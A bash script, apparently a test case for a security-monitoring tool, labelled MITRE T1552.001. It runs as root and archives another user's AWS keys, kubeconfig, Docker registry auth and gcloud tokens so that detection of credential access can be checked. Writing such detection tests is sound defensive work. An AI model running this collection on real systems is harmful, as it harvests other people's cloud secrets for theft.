#!/usr/bin/env bash
# tactic: credential-access
# technique: T1552.001 Unsecured Credentials: Credentials In Files
# behaviour: collects cloud and cluster credentials of another user: AWS keys, kubeconfig, docker registry auth, gcloud tokens
# as: root
# expect: credential_access
set -u
v="$SNTL_VICTIM_HOME"
tar czf "$SNTL_TMP/c.tgz" -C "$v" .aws/credentials .kube/config .docker/config.json .config/gcloud 2>/dev/null || true
